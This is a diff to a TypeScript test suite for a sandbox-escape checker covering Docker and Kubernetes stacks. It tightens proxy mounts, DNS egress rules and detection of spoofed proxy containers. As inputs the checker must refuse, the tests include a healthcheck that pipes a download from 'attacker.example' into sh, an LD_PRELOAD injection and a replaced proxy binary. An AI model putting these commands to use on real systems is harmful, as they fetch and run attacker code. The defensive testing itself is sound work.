@@ -67,6 +67,9 @@ function dockerProxy(config: string): StackFixture {
     { label: "sandbox.role", value: "proxy" },
   ];
   p.envs = [`SANDBOX_PROXY_CONFIG=${config}`];
+  // The proxy mounts nothing but memory (a task's job folder would be a file put where code could be loaded from).
+  delete p.mounts;
+  delete p.volumes;
   return { type: DOCKER, name: "proxy", props: p };
 }
 
@@ -229,11 +232,11 @@ describe(`${RULE}: Kubernetes tasks with another route out`, () => {
       egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }, {}, { to: [{ namespaceSelector: {} }] }],
     });
     const allowed =
-      "egress may go only to the proxy's or the broker's pods of the namespace (podSelector sandbox.role=proxy or broker) and to kube-dns of kube-system on port 53";
+      "egress may go only to the proxy's or the broker's pods of the namespace (podSelector sandbox.role=proxy or broker) and to the cluster's DNS on DNS ports (kube-system on 53, dns or dns-tcp; openshift-dns on 53 or 5353; NodeLocal DNSCache 169.254.20.10/32 on 53)";
     const expected = [
       `NetworkPolicy "wide": spec.egress[0] reaches an ipBlock "0.0.0.0/0"; ${allowed}`,
       `NetworkPolicy "wide": spec.egress[1] has no \`to\` (every destination); ${allowed}`,
-      `NetworkPolicy "wide": spec.egress[2] reaches a namespaceSelector (pods of other namespaces; only kube-dns of kube-system on port 53 may be named); ${allowed}`,
+      `NetworkPolicy "wide": spec.egress[2] reaches a namespaceSelector (pods of other namespaces; only the DNS namespace, kube-system on port 53 or openshift-dns on 53 and 5353, may be named); ${allowed}`,
     ];
     expect(check([deny, toProxy, wide, job()])).toEqual(expected);
     // Whatever pods it selects: none in the input, or the pods the runtime launches later.
@@ -444,7 +447,9 @@ describe(`${RULE}: the proxy's allowlist`, () => {
 describe(`${RULE}: only the proxy wears the proxy's label`, () => {
   it("refuses a Docker container labelled as the proxy that runs another image or replaces the entry point", () => {
     const spoof = (extra: Record<string, unknown>): StackFixture => {
-      const f = dockerProxy("acl a dstdomain pypi.org\nhttp_access allow a");
+      const f = dockerProxy(
+        `acl a dstdomain -n pypi.org\nacl refused_dst dst 0.0.0.0/8 10.0.0.0/8 100.64.0.0/10 127.0.0.0/8 169.254.0.0/16 172.16.0.0/12 192.168.0.0/16 ::1 fe80::/10 fc00::/7\nhttp_access deny refused_dst\nhttp_access allow a`,
+      );
       return { ...f, props: { ...(f.props as object), ...extra } };
     };
     expect(check([spoof({})])).toEqual([]);
@@ -454,6 +459,26 @@ describe(`${RULE}: only the proxy wears the proxy's label`, () => {
     expect(check([spoof({ command: ["sh", "-c", "true"] })])[0]).toContain(
       "is not the proxy (it replaces the image's entry point (command[0]))",
     );
+    // The engine runs a healthcheck command inside the container, with the proxy's open egress: refused; a disabled
+    // one (NONE, the image has none and the toolkit sets none) passes. Only the variable the image reads may be set.
+    expect(
+      check([
+        spoof({ healthcheck: { tests: ["CMD-SHELL", "wget -qO- http://attacker.example/x | sh"] } }),
+      ])[0],
+    ).toContain('is not the proxy (container "proxy" runs a command inside it');
+    expect(check([spoof({ healthcheck: { tests: ["NONE"] } })])).toEqual([]);
+    expect(
+      check([spoof({ uploads: [{ file: "/usr/local/bin/sandbox-proxy", content: "#!/bin/sh" }] })])[0],
+    ).toContain("has uploads, which runs a command or puts files inside it");
+    const env = (f: StackFixture) =>
+      ((f.props as { envs: string[] }).envs ?? []).concat("LD_PRELOAD=/tmp/x.so");
+    const base = spoof({});
+    expect(check([spoof({ envs: env(base) })])[0]).toContain(
+      'sets "LD_PRELOAD"; the proxy\'s image reads only SANDBOX_PROXY_CONFIG',
+    );
+    expect(
+      check([spoof({ mounts: [{ type: "bind", source: "/srv/x", target: "/usr/lib/x" }] })])[0],
+    ).toContain("the proxy mounts only its configuration");
     // One in proxy mode on the bridge is also judged as the task it is.
     expect(
       check([spoof({ image: "busybox:1.36", envs: ["HTTPS_PROXY=http://p:3128"], networkMode: "bridge" })]),
